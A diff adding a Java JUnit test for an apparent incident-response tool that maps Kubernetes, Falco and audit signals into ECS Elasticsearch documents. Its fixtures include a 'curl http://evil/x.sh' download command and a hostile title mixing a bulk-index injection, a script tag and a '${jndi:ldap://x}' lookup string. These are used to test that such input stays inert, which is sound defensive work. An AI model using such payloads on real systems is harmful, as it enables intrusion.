@@ -1,0 +1,247 @@
+package io.kordon.elasticsearch;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.kordon.avro.Pod;
+import io.kordon.avro.Source;
+import io.kordon.avro.StepStatus;
+import io.kordon.elasticsearch.Document.Write;
+import java.io.IOException;
+import java.time.Clock;
+import java.time.Instant;
+import java.time.ZoneOffset;
+import java.util.List;
+import java.util.Map;
+import java.util.stream.Stream;
+import org.apache.avro.specific.SpecificRecord;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class DocumentsTest {
+    private static final Instant NOW = Instant.parse("2026-11-24T12:00:00Z");
+    private final Documents documents = new Documents("kordon-", Clock.fixed(NOW, ZoneOffset.UTC));
+
+    @Test
+    void incidentIsReplacedByItsRevision() {
+        Document document = documents.of(Records.incident("i1", 7).build());
+        assertThat(document.index()).isEqualTo("kordon-incidents");
+        assertThat(document.id()).isEqualTo("i1");
+        assertThat(document.write()).isEqualTo(new Write.Replace(7));
+    }
+
+    @Test
+    void incidentSpeaksEcsAndKeepsTheRestUnderKordon() throws IOException {
+        JsonNode json = json(Records.incident("i1", 7).build());
+        assertThat(json.at("/@timestamp").asText()).isEqualTo("2026-11-24T10:01:01.123456Z");
+        assertThat(json.at("/ecs/version").asText()).isEqualTo(Ecs.VERSION);
+        assertThat(json.at("/event/kind").asText()).isEqualTo("alert");
+        assertThat(json.at("/event/dataset").asText()).isEqualTo("kordon.incidents");
+        assertThat(json.at("/event/severity").asLong()).isEqualTo(99);
+        assertThat(json.at("/event/risk_score").asDouble()).isEqualTo(99.1);
+        assertThat(json.at("/event/start").asText()).isEqualTo("2026-11-24T10:00:00.123456Z");
+        assertThat(json.at("/event/end").asText()).isEqualTo("2026-11-24T10:10:00.123456Z");
+        assertThat(json.at("/event/ingested").asText()).isEqualTo("2026-11-24T12:00:00Z");
+        assertThat(json.at("/orchestrator/type").asText()).isEqualTo("kubernetes");
+        assertThat(json.at("/orchestrator/cluster/name").asText()).isEqualTo("demo");
+        assertThat(json.at("/orchestrator/namespace").asText()).isEqualTo("tomcat");
+        assertThat(json.at("/orchestrator/resource/type").asText()).isEqualTo("pod");
+        assertThat(json.at("/orchestrator/resource/name").asText()).isEqualTo("tomcat-1");
+        assertThat(json.at("/orchestrator/resource/id").asText()).isEqualTo(Records.UID);
+        assertThat(json.at("/orchestrator/resource/parent/type").asText()).isEqualTo("ReplicaSet");
+        assertThat(json.at("/container/id").asText()).isEqualTo("0123456789abcdef");
+        assertThat(json.at("/container/image/name").asText()).isEqualTo("registry.example:5000/team/tomcat");
+        assertThat(json.at("/container/image/tag").asText()).isEqualTo("9.0");
+        assertThat(json.at("/container/security_context/privileged").asBoolean())
+                .isTrue();
+        assertThat(json.at("/host/name").asText()).isEqualTo("worker-1");
+        assertThat(json.at("/threat/framework").asText()).isEqualTo("MITRE ATT&CK");
+        assertThat(texts(json.at("/threat/tactic/id"))).containsExactly("TA0002", "TA0040");
+        assertThat(texts(json.at("/threat/technique/id"))).containsExactly("T1190", "T1059");
+        assertThat(texts(json.at("/threat/technique/subtechnique/id"))).containsExactly("T1059.004");
+        assertThat(json.at("/kordon/revision").asLong()).isEqualTo(7);
+        assertThat(json.at("/kordon/phase").asText()).isEqualTo("resolution");
+        assertThat(json.at("/kordon/status").asText()).isEqualTo("contained");
+        assertThat(json.at("/kordon/uid").asText()).isEqualTo(Records.UID);
+        assertThat(json.at("/kordon/pod/labels/app.kubernetes.io~1name").asText())
+                .isEqualTo("tomcat");
+        assertThat(json.at("/kordon/contributions/0/weight").asDouble()).isEqualTo(99);
+        assertThat(json.at("/kordon/evidence/0/original").asText()).isEqualTo(Records.CURL);
+        assertThat(json.at("/kordon/evidence_omitted").asLong()).isEqualTo(3);
+        assertThat(json.at("/kordon/timeline/contained_at").asText()).isEqualTo("2026-11-24T10:01:03.123456Z");
+        assertThat(json.at("/kordon/commands/0/steps/0/status").asText()).isEqualTo("done");
+    }
+
+    @Test
+    void signalOfFalcoTellsProcessUserAndAddress() throws IOException {
+        Document document = documents.of(Records.signal("s1").build());
+        assertThat(document.index()).isEqualTo("kordon-signals");
+        assertThat(document.write()).isEqualTo(new Write.Create());
+
+        JsonNode json = json(Records.signal("s1").build());
+        assertThat(json.at("/event/original").asText()).isEqualTo(Records.CURL);
+        assertThat(json.at("/event/action").asText()).isEqualTo("RCE in Tomcat");
+        assertThat(json.at("/event/provider").asText()).isEqualTo("falco");
+        assertThat(texts(json.at("/event/category"))).containsExactly("intrusion_detection", "process");
+        assertThat(json.at("/process/name").asText()).isEqualTo("curl");
+        assertThat(json.at("/process/command_line").asText()).isEqualTo("curl http://evil/x.sh");
+        assertThat(json.at("/process/executable").asText()).isEqualTo("/usr/bin/curl");
+        assertThat(json.at("/process/parent/name").asText()).isEqualTo("java");
+        assertThat(json.at("/process/pid").asLong()).isEqualTo(4711);
+        assertThat(json.at("/user/name").asText()).isEqualTo("tomcat");
+        assertThat(json.at("/destination/ip").asText()).isEqualTo("203.0.113.7");
+        assertThat(json.at("/observer/hostname").asText()).isEqualTo("worker-1");
+        assertThat(texts(json.at("/related/user"))).containsExactly("tomcat");
+        assertThat(texts(json.at("/threat/tactic/name"))).containsExactly("Execution", "Lateral Movement");
+        assertThat(json.at("/rule/uuid").asText()).isEqualTo("0b3c6a2e-44b0-4a58-8f43-59d9a1a5b001");
+    }
+
+    @Test
+    void signalOfTheAuditLogTellsWhoAskedFromWhere() throws IOException {
+        JsonNode json = json(Records.signal("s1")
+                .setSource(Source.AUDIT)
+                .setOriginal(Records.EXEC)
+                .build());
+        assertThat(json.at("/user/name").asText()).isEqualTo("mallory");
+        assertThat(json.at("/source/ip").asText()).isEqualTo("198.51.100.4");
+        assertThat(texts(json.at("/related/ip"))).containsExactly("198.51.100.4", "10.0.0.1");
+        assertThat(texts(json.at("/related/user"))).containsExactly("mallory", "admin");
+        assertThat(json.at("/user_agent/original").asText()).isEqualTo("kubectl/v1.31");
+        assertThat(json.at("/event/outcome").asText()).isEqualTo("success");
+        assertThat(texts(json.at("/event/type"))).containsExactly("creation", "allowed");
+    }
+
+    @Test
+    void alertThatStillFiresHasNoEnd() throws IOException {
+        JsonNode json = json(Records.signal("s1")
+                .setSource(Source.PROMETHEUS)
+                .setOpen(true)
+                .setOriginal("{\"labels\":{\"alertname\":\"PodMemoryAbove2GiB\"}}")
+                .build());
+        assertThat(json.at("/event/end").isMissingNode()).isTrue();
+        assertThat(json.at("/event/action").asText()).isEqualTo("PodMemoryAbove2GiB");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                "{",
+                "[1,2",
+                "null",
+                "\"text\"",
+                "{\"output_fields\":7,\"rule\":{\"a\":1}}",
+                "{\"output_fields\":{\"proc.name\":null,\"proc.pid\":1e99,\"user.name\":[\"x\"],\"fd.cip\":\"not an ip\"}}",
+                "{\"output_fields\":{\"proc.name\":\"half \\ud800 pair\"}}"
+            })
+    void originalThatCannotBeReadStillMakesADocument(String original) throws IOException {
+        for (Source source : Source.values()) {
+            JsonNode json = json(
+                    Records.signal("s1").setSource(source).setOriginal(original).build());
+            assertThat(json.at("/event/id").asText()).isEqualTo("s1");
+            assertThat(json.at("/source/ip").isMissingNode()).isTrue();
+        }
+    }
+
+    @Test
+    void nestingBeyondTheParsersBoundStillMakesADocument() throws IOException {
+        String deep = "[".repeat(100_000);
+        JsonNode json = json(Records.signal("s1").setOriginal(deep).build());
+        assertThat(json.at("/event/original").asText()).hasSize(100_000);
+    }
+
+    @Test
+    void valuesAreDataWhateverTheyHold() throws IOException {
+        String hostile = "\"},{\"index\":{}}\n\u0000\u001b[31m<script>${jndi:ldap://x}";
+        JsonNode json = json(Records.incident("i1", 1).setTitle(hostile).build());
+        assertThat(json.at("/kordon/title").asText()).isEqualTo(hostile);
+        assertThat(documents
+                        .of(Records.incident("i1", 1).setTitle(hostile).build())
+                        .json())
+                .satisfies(body -> assertThat(new String(body.asInputStream().readAllBytes(), UTF_8))
+                        .doesNotContain("\n"));
+    }
+
+    @Test
+    void timesBeyondFourDigitYearsAreBounded() throws IOException {
+        JsonNode json = json(Records.signal("s1")
+                .setStart(Instant.parse("-200000-01-01T00:00:00Z"))
+                .setEnd(Instant.parse("+200000-01-01T00:00:00Z"))
+                .build());
+        assertThat(json.at("/event/start").asText()).isEqualTo("0001-01-01T00:00:00Z");
+        assertThat(json.at("/event/end").asText()).startsWith("9999-12-31");
+    }
+
+    @Test
+    void resultsAreNamedByCommandAndStep() throws IOException {
+        assertThat(documents.of(Records.result("c1", 2).build()).id()).isEqualTo("c1/2");
+        assertThat(documents.of(Records.result("c1", -1).build()).id()).isEqualTo("c1/run");
+        JsonNode json =
+                json(Records.result("c1", 2).setStatus(StepStatus.REFUSED).build());
+        assertThat(json.at("/event/outcome").asText()).isEqualTo("failure");
+        assertThat(json.at("/event/action").asText()).isEqualTo("isolate");
+        assertThat(json.at("/kordon/incident_id").asText()).isEqualTo("i1");
+        assertThat(json.at("/kordon/observed/policy").asText()).isEqualTo("kordon-isolate");
+    }
+
+    @Test
+    void refusesARecordWithoutId() {
+        assertThatThrownBy(() -> documents.of(Records.signal("").build())).isInstanceOf(IllegalArgumentException.class);
+        assertThatThrownBy(() -> documents.of(new Pod())).hasMessageContaining("io.kordon.avro.Pod");
+    }
+
+    static Stream<SpecificRecord> everyRecord() {
+        return Stream.of(
+                Records.incident("i1", 1).build(),
+                Records.signal("s1").build(),
+                Records.signal("s2")
+                        .setSource(Source.AUDIT)
+                        .setOriginal(Records.EXEC)
+                        .setAlertId("a")
+                        .build(),
+                Records.signal("s3").setSource(Source.PROMETHEUS).build(),
+                Records.command("c1").build(),
+                Records.result("c1", 0).build());
+    }
+
+    @ParameterizedTest
+    @MethodSource("everyRecord")
+    void everyWrittenFieldHasAMapping(SpecificRecord record) throws IOException {
+        ObjectNode mapping = Json.MAPPER.createObjectNode();
+        for (String component : Templates.COMPONENTS) {
+            mapping.setAll((ObjectNode) Templates.resource(component).at("/template/mappings/properties"));
+        }
+        assertMapped("", json(record), mapping);
+    }
+
+    private static void assertMapped(String path, JsonNode json, JsonNode properties) {
+        for (Map.Entry<String, JsonNode> field : json.properties()) {
+            JsonNode mapping = properties.path(field.getKey());
+            assertThat(mapping.isObject())
+                    .as("mapping of %s", path + field.getKey())
+                    .isTrue();
+            if (mapping.path("type").asText().equals("flattened")) {
+                continue;
+            }
+            for (JsonNode value : field.getValue().isArray() ? field.getValue() : List.of(field.getValue())) {
+                assertThat(value.isObject())
+                        .as("%s is an object", path + field.getKey())
+                        .isEqualTo(mapping.has("properties"));
+                assertMapped(path + field.getKey() + ".", value, mapping.path("properties"));
+            }
+        }
+    }
+
+    private JsonNode json(SpecificRecord record) throws IOException {
+        return Json.MAPPER.readTree(documents.of(record).json().asInputStream());
+    }
+
+    private static List<String> texts(JsonNode array) {
+        return array.valueStream().map(JsonNode::asText).toList();
+    }
+}
